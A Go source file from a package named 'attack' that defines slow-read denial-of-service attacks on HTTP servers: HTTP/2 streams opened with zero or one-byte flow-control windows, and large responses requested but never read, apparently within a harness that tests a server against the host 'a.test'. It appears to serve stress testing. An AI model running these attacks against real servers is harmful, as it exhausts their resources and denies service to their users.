package attack

import (
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/sys/unix"
)

// closedUnread says whether the peer closed or reset, though bytes of it may
// still be unread.
func closedUnread(c net.Conn) bool {
	tcp, ok := c.(*net.TCPConn)
	if !ok {
		return false
	}
	raw, err := tcp.SyscallConn()
	if err != nil {
		return true
	}
	closed := false
	err = raw.Control(func(fd uintptr) {
		info, err := unix.GetsockoptTCPInfo(int(fd), unix.IPPROTO_TCP, unix.TCP_INFO)
		closed = err != nil || info.State != 1 // TCP_ESTABLISHED
	})
	return closed || err != nil
}

// stalls ask for much and take nothing.
func stalls() []Attack {
	big := "GET /bytes/268435456 HTTP/1.1\r\nHost: a.test\r\n\r\n"
	return []Attack{
		{Name: "zero-window", About: "100 large answers on each connection, window 0 for ever", Span: 30 * time.Second, Connections: 20, Closes: true, H2: true, one: func(v *victim) error {
			a, err := speak2(v, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			if err != nil {
				return err
			}
			for n := range uint32(100) {
				if err := a.open(2*n+1, "GET", "/bytes/268435456", true); err != nil {
					return err
				}
				v.sent.Add(1)
			}
			if err := a.flush(); err != nil {
				return err
			}
			return v.hold()
		}},
		{Name: "tiny-window", About: "100 large answers on each connection, one byte of window at a time", Span: 30 * time.Second, Connections: 20, Closes: true, H2: true, one: func(v *victim) error {
			a, err := speak2(v, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
			if err != nil {
				return err
			}
			v.sink()
			for n := range uint32(100) {
				if err := a.open(2*n+1, "GET", "/bytes/268435456", true); err != nil {
					return err
				}
			}
			for v.pause(time.Second) {
				for n := range uint32(100) {
					if err := a.WriteWindowUpdate(2*n+1, 1); err != nil {
						return err
					}
					v.sent.Add(1)
				}
				if err := a.flush(); err != nil {
					return err
				}
			}
			return nil
		}},
		{Name: "unread-h2", About: "large answers with a window of 2 GiB, no byte read", Span: 30 * time.Second, Connections: 50, Closes: true, H2: true, one: func(v *victim) error {
			a, err := speak2(v, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
			if err != nil {
				return err
			}
			if err := a.WriteWindowUpdate(0, 1<<30); err != nil {
				return err
			}
			for n := range uint32(100) {
				if err := a.open(2*n+1, "GET", "/bytes/268435456", true); err != nil {
					return err
				}
			}
			if err := a.flush(); err != nil {
				return err
			}
			return v.waitClosed()
		}},
		unread("unread-h1", "a large answer on each connection, no byte read", big, false),
	}
}

// flush writes what was collected.
func (a *attacker2) flush() error { return a.out.flush() }
